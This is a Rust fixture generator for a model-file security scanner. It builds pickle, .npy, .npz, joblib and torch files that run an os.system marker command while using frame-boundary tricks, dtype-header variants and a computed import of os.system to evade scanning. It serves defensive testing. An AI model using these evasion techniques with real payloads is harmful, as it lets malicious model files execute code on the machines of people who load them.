//! Fixtures for scanner bypasses: each one is a public technique for getting a payload past a
//! scanner while the real loader still runs it (issue 17). The payload is always
//! `os.system('echo MLSEC_MARKER')`; `scripts/bypass/verify.py` loads every fixture with the
//! loader named in `MANIFEST` (written out as `MANIFEST.tsv`: pickle, torch, numpy, joblib)
//! and checks the marker is printed, or not, as listed (the zip-reader differentials of
//! [`super::bypass_zip`] also say which member the loader reads); `scripts/bypass/VERIFIED.txt` records
//! the last run and the versions.
//! Nothing here or in the Rust tests runs them.

use std::path::Path;

use anyhow::Result;
use mlsec_formats::npy;
use mlsec_testkit::ZipWriter;
use mlsec_testkit::{PickleWriter, torch_zip};

/// (fixture, loader that runs it, whether the loader runs the payload)
pub const MANIFEST: &[(&str, &str, bool)] = &[
    ("frame-straddle.pkl", "pickle.load", true),
    ("frame-straddle.pkl", "pickle.loads", false),
    ("frame-straddle.pt", "torch.load", true),
    ("frame-straddle-object.npy", "numpy.load", true),
    ("frame-nested.pkl", "pickle.load", true),
    ("frame-nested.pkl", "pickle.loads", false),
    ("frame-overlong.joblib", "joblib.load", true),
    ("frame-overlong.joblib", "pickle.loads", false),
    ("object-O8.npy", "numpy.load", true),
    ("object-le.npy", "numpy.load", true),
    ("object-be-O8.npy", "numpy.load", true),
    ("object-native.npy", "numpy.load", true),
    ("object-bare-O8.npy", "numpy.load", true),
    ("object-name.npy", "numpy.load", true),
    ("object-escaped.npy", "numpy.load", true),
    ("object-structured.npy", "numpy.load", true),
    ("object-subarray.npy", "numpy.load", true),
    ("object-member.npz", "numpy.load", true),
    ("truncated-proto0.pkl", "pickle.load", true),
    ("planted-attributes.pkl", "pickle.load", true),
    ("garbage-member.pt", "torch.load", false),
];

const COMMAND: &str = "echo MLSEC_MARKER";

/// `os.system(COMMAND)` then STOP.
pub(super) fn payload() -> Vec<u8> {
    let mut p = b"cos\nsystem\n".to_vec();
    p.push(0x8c);
    p.push(COMMAND.len() as u8);
    p.extend_from_slice(COMMAND.as_bytes());
    p.extend_from_slice(&[0x85, b'R', b'.']);
    p
}

fn frame(len: usize) -> Vec<u8> {
    let mut f = vec![0x95];
    f.extend_from_slice(&(len as u64).to_le_bytes());
    f
}

/// A BINUNICODE whose operand crosses the end of its frame. `pickle.loads` reads across the
/// boundary and ends with two harmless strings; a loader reading from a stream drops the rest
/// of the frame, reads the string from after the frame, and runs the payload that follows.
/// `pad` bytes of padding at the start of the frame make it larger than CPython's 128 KiB
/// prefetch, so even a peekable file (`open(..)`, numpy) takes the stream path.
fn straddle(pad: usize) -> Vec<u8> {
    const N: usize = 16; // the string's declared length
    const K: usize = 4; // its bytes left in the frame
    let p = payload();
    let mut content = Vec::new();
    if pad > 0 {
        content.push(b'B');
        content.extend_from_slice(&(pad as u32).to_le_bytes());
        content.extend(std::iter::repeat_n(b'.', pad));
        content.push(b'0');
    }
    content.push(b'X');
    content.extend_from_slice(&(N as u32).to_le_bytes());
    content.extend_from_slice(b"abcd"); // K bytes: what a stream loader drops
    let mut after = b"benign-text-".to_vec(); // N - K bytes
    // The last K bytes of the stream reading's string: for `pickle.loads` a SHORT_BINBYTES
    // that swallows the payload, so that reading never sees it.
    after.push(b'C');
    after.push((K - 2 + p.len()) as u8);
    after.extend_from_slice(b"zz");
    after.extend_from_slice(&p);
    after.push(b'.');
    let mut out = vec![0x80, 4];
    out.extend(frame(content.len()));
    out.extend(content);
    out.extend(after);
    out
}

/// A FRAME inside a frame whose length exceeds what is left: a stream loader drops the rest of
/// the outer frame and reads the payload as the new frame; `pickle.loads` reads the dropped
/// bytes, a SHORT_BINBYTES over the payload.
fn nested(pad: usize) -> Vec<u8> {
    let p = payload();
    let mut content = Vec::new();
    content.push(b'B');
    content.extend_from_slice(&(pad as u32).to_le_bytes());
    content.extend(std::iter::repeat_n(b'.', pad));
    content.push(b'0');
    content.extend(frame(p.len()));
    content.extend_from_slice(&[b'C', p.len() as u8]);
    let mut out = vec![0x80, 4];
    out.extend(frame(content.len()));
    out.extend(content);
    out.extend_from_slice(&p);
    out.push(b'.');
    out
}

/// A frame declared longer than the file: the C unpickler stops at the FRAME, the pure-Python
/// one (joblib) reads whatever is there.
fn overlong() -> Vec<u8> {
    let p = payload();
    let mut out = vec![0x80, 4];
    out.extend(frame(p.len() + 4096));
    out.extend_from_slice(&p);
    out
}

/// An object-array `.npy` with the given `descr` literal and a pickle body.
pub(super) fn object_npy(descr: &str, body: &[u8]) -> Vec<u8> {
    let mut header = format!("{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}");
    while (10 + header.len() + 1) % 64 != 0 {
        header.push(' ');
    }
    header.push('\n');
    let mut out = npy::MAGIC.to_vec();
    out.extend_from_slice(&[1, 0]);
    out.extend_from_slice(&(header.len() as u16).to_le_bytes());
    out.extend_from_slice(header.as_bytes());
    out.extend_from_slice(body);
    out
}

/// `types.SimpleNamespace()` gets attributes `m='os'`, `n='system'` from BUILD; STACK_GLOBAL
/// then imports `getattr(ns, 'm')`.`getattr(ns, 'n')`: a computed import of `os.system`.
fn planted_attributes() -> Vec<u8> {
    let mut p = PickleWriter::new();
    p.proto(4)
        .global("types", "SimpleNamespace")
        .empty_tuple()
        .reduce();
    p.empty_dict()
        .short_str("m")
        .short_str("os")
        .setitem()
        .short_str("n")
        .short_str("system")
        .setitem()
        .build()
        .put();
    let ns = p.memo_len() - 1;
    p.global("builtins", "getattr")
        .get(ns)
        .short_str("m")
        .tuple2()
        .reduce();
    p.global("builtins", "getattr")
        .get(ns)
        .short_str("n")
        .tuple2()
        .reduce();
    p.raw(&[0x93])
        .short_str(COMMAND)
        .raw(&[0x85])
        .reduce()
        .stop();
    p.finish()
}

fn write(out: &Path, rel: &str, bytes: &[u8]) -> Result<()> {
    std::fs::write(out.join(rel), bytes)?;
    Ok(())
}

pub fn generate(out: &Path) -> Result<()> {
    const PREFETCH: usize = 128 << 10;
    write(out, "frame-straddle.pkl", &straddle(PREFETCH))?;
    write(out, "frame-nested.pkl", &nested(PREFETCH))?;
    write(out, "frame-overlong.joblib", &overlong())?;
    write(
        out,
        "frame-straddle.pt",
        &torch_zip("archive", &straddle(0), &[]),
    )?;
    write(
        out,
        "frame-straddle-object.npy",
        &object_npy("'|O'", &straddle(PREFETCH)),
    )?;
    let body = payload();
    for (name, descr) in [
        ("object-O8.npy", "'|O8'"),
        ("object-le.npy", "'<O'"),
        ("object-be-O8.npy", "'>O8'"),
        ("object-native.npy", "'=O'"),
        ("object-bare-O8.npy", "'O8'"),
        ("object-name.npy", "'object'"),
        ("object-escaped.npy", "'\\x7cO'"),
        ("object-structured.npy", "[('a', '<i4'), ('b', '|O')]"),
        ("object-subarray.npy", "('|O', (2,))"),
    ] {
        write(out, name, &object_npy(descr, &body))?;
    }
    let mut z = ZipWriter::new();
    z.add("arr_0.npy", &object_npy("'|O8'", &body), false, 64);
    write(out, "object-member.npz", &z.finish())?;
    let p = payload();
    write(out, "truncated-proto0.pkl", &p[..p.len() - 1])?;
    write(out, "planted-attributes.pkl", &planted_attributes())?;
    let mut benign = PickleWriter::new();
    benign.proto(2).empty_dict().stop();
    let mut z = ZipWriter::new();
    z.add("archive/data.pkl", &benign.finish(), false, 64);
    z.add("archive/version", b"3\n", false, 64);
    z.add(
        "archive/extra.pkl",
        b"\x00\x01 not a pickle at all",
        false,
        64,
    );
    write(out, "garbage-member.pt", &z.finish())?;
    super::bypass_zip::generate(out)?;
    let manifest: String = MANIFEST
        .iter()
        .map(|(file, loader, runs)| format!("{file}\t{loader}\t{runs}\n"))
        .chain(
            super::bypass_zip::MANIFEST
                .iter()
                .map(|(file, loader, runs, reads)| format!("{file}\t{loader}\t{runs}\t{reads}\n")),
        )
        .collect();
    write(out, "MANIFEST.tsv", manifest.as_bytes())?;
    Ok(())
}
